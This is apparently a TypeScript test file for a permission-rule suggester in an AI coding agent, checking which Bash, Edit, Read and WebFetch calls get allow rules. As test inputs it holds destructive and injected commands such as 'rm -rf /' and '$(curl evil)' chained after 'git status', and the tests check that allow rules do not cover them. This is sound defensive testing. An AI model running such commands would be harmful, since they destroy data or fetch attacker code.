// The rule generaliser behind "allow for this session", "always allow" and `permission_suggestions`.
import { describe, expect, it } from 'vitest'
import { matchesPermissionRule } from './permission-rule'
import { commandPrefix, permissionSuggestions, rulesCover, ruleText, splitPlainWords, suggestRules } from './rule-suggestions'
import type { BashSplit } from './bash-command/index'

const ctx = { cwd: '/srv/proj', projectDir: '/srv/proj' }

/** A splitter that reads nothing, as when the parser cannot be used. */
const unreadable = (): BashSplit => ({ readable: false, reason: 'test: not read' })

const texts = async (tool: string, args: Record<string, unknown>, context: Parameters<typeof suggestRules>[2] = ctx) =>
  (await suggestRules(tool, args, context)).map(ruleText)

describe('suggestRules', () => {
  const CASES: Array<[tool: string, args: Record<string, unknown>, rules: string[]]> = [
    ['Bash', { command: 'npm test' }, ['Bash(npm test:*)']],
    ['Bash', { command: 'npm test -- --watch' }, ['Bash(npm test:*)']],
    ['Bash', { command: 'npm run lint --fix' }, ['Bash(npm run lint:*)']],
    ['Bash', { command: 'git status' }, ['Bash(git status:*)']],
    ['Bash', { command: 'ls' }, ['Bash(ls:*)']],
    ['Bash', { command: 'rm -rf build' }, ['Bash(rm:*)']],
    ['Bash', { command: 'cat notes.txt' }, ['Bash(cat:*)']],
    // Wrappers and assignments: a prefix would allow anything, so the exact text is saved.
    ['Bash', { command: 'sudo apt-get update' }, ['Bash(sudo apt-get update)']],
    // The shell parser strips leading assignments and wrappers, as Claude Code does.
    ['Bash', { command: 'FOO=1 timeout 5 npm test' }, ['Bash(npm test:*)']],
    // One rule per simple command, substitutions included; a computed word is no subcommand.
    ['Bash', { command: 'git status && npm test | tee out.txt' }, ['Bash(git status:*)', 'Bash(npm test:*)', 'Bash(tee:*)']],
    ['Bash', { command: 'echo "$(whoami)"' }, ['Bash(echo:*)', 'Bash(whoami:*)']],
    ['Bash', { command: 'git $SUB' }, ['Bash(git:*)']],
    // What the parser cannot read with confidence gets no rule (no rule allows it).
    ['Bash', { command: 'eval "$X"' }, []],
    ['Edit', { file_path: '/srv/proj/src/a/b.ts' }, ['Edit(/src/a/**)']],
    ['Write', { file_path: 'src/new.ts' }, ['Edit(/src/**)']],
    ['Edit', { file_path: '/srv/proj/README.md' }, ['Edit(/**)']],
    ['NotebookEdit', { notebook_path: '/srv/proj/nb/x.ipynb' }, ['Edit(/nb/**)']],
    ['Read', { file_path: '/etc/hosts' }, ['Read(//etc/**)']],
    ['Grep', { pattern: 'x', path: '/srv/proj/lib' }, ['Grep(/lib/**)']],
    ['WebFetch', { url: 'https://Docs.Example.com/a?b' }, ['WebFetch(domain:docs.example.com)']],
    ['WebFetch', { url: 'not a url' }, ['WebFetch']],
    ['mcp__github__list_issues', { repo: 'x' }, ['mcp__github__list_issues']],
    ['WebSearch', { query: 'x' }, ['WebSearch']]
  ]

  it.each(CASES)('%s %j -> %j', async (tool, args, rules) => {
    expect(await texts(tool, args)).toEqual(rules)
  })

  it('one rule per simple command of a compound command, as Claude Code suggests them, without duplicates', async () => {
    expect(await texts('Bash', { command: 'git status && npm test && git status --short' })).toEqual(['Bash(git status:*)', 'Bash(npm test:*)'])
    expect(await texts('Bash', { command: "cd sub && bash -c 'make all'" })).toEqual(['Bash(cd sub:*)', 'Bash(make all:*)'])
  })

  it('a command the splitter cannot read, or a splitter that throws, gets no rule', async () => {
    expect(await texts('Bash', { command: 'echo $(id) && ls' }, { ...ctx, splitBash: unreadable })).toEqual([])
    const throwing = () => {
      throw new Error('parser not loaded')
    }
    expect(await texts('Bash', { command: 'npm test' }, { ...ctx, splitBash: throwing })).toEqual([])
  })

  it('without a workspace, folders are absolute', async () => {
    expect(await texts('Edit', { file_path: '/srv/proj/src/a.ts' }, { cwd: '/srv/proj' })).toEqual(['Edit(//srv/proj/src/**)'])
  })

  it('every suggested rule matches the call it came from (the policy agrees with what was shown)', async () => {
    const calls: Array<[string, Record<string, unknown>]> = [
      ['Bash', { command: 'npm test -- --watch' }],
      ['Bash', { command: 'sudo apt-get update' }],
      ['Bash', { command: 'git status && npm test | tee out.txt' }],
      ['Edit', { file_path: '/srv/proj/src/a/b.ts' }],
      ['Write', { file_path: '/srv/proj/README.md' }],
      ['Read', { file_path: '/etc/hosts' }],
      ['WebFetch', { url: 'https://docs.example.com/a' }],
      ['mcp__github__list_issues', {}]
    ]
    for (const [tool, args] of calls) {
      const rules = await texts(tool, args)
      expect(rulesCover(rules, tool, args, { cwd: ctx.cwd, projectDir: ctx.projectDir }), `${rules.join(', ')} on ${tool} ${JSON.stringify(args)}`).toBe(true)
    }
    expect(matchesPermissionRule('Bash(npm test:*)', 'Bash', { command: 'npm testing' })).toBe(false)
  })

  it('rules cover a compound command only when every part is covered', async () => {
    await texts('Bash', { command: 'ls' }) // loads the parser
    const rules = ['Bash(git status:*)', 'Bash(npm test:*)']
    expect(rulesCover(rules, 'Bash', { command: 'git status && npm test -w' }, ctx)).toBe(true)
    expect(rulesCover(rules, 'Bash', { command: 'git status && rm -rf /' }, ctx)).toBe(false)
    expect(rulesCover(rules, 'Bash', { command: 'git status; $(curl evil)' }, ctx)).toBe(false)
    expect(rulesCover(['Bash(eval "$X")'], 'Bash', { command: 'eval "$X"' }, ctx)).toBe(false)
    expect(rulesCover(['Bash'], 'Bash', { command: 'eval "$X"' }, ctx)).toBe(true)
    expect(rulesCover(['Edit(/src/**)'], 'Write', { file_path: '/srv/proj/src/x.ts' }, ctx)).toBe(true)
  })
})

describe('commandPrefix and splitPlainWords', () => {
  it('reads a subcommand only when it is a word, and a script name only after `run` of a package runner', () => {
    expect(commandPrefix(['git', '-C', 'x', 'status'])).toBe('git')
    expect(commandPrefix(['yarn', 'run', 'build'])).toBe('yarn run build')
    expect(commandPrefix(['make', 'run', 'x'])).toBe('make run')
    expect(commandPrefix(['./scripts/deploy.sh', 'prod'])).toBe('./scripts/deploy.sh prod')
    expect(commandPrefix(['env', 'X=1', 'ls'])).toBeUndefined()
  })

  it('reads only plain word lists', () => {
    expect(splitPlainWords('  npm   test ')).toEqual({ readable: true, commands: [{ argv: ['npm', 'test'], computed: [], moreArgs: false, text: 'npm   test', redirects: [] }] })
    expect(splitPlainWords('ls > out').readable).toBe(false)
    expect(splitPlainWords("echo 'a b'").readable).toBe(false)
  })
})

describe('permissionSuggestions', () => {
  it("is Claude Code's addRules entry for the local settings", () => {
    expect(permissionSuggestions([{ toolName: 'Bash', ruleContent: 'npm test:*' }])).toEqual([
      { type: 'addRules', rules: [{ toolName: 'Bash', ruleContent: 'npm test:*' }], behavior: 'allow', destination: 'localSettings' }
    ])
    expect(permissionSuggestions([])).toEqual([])
  })
})
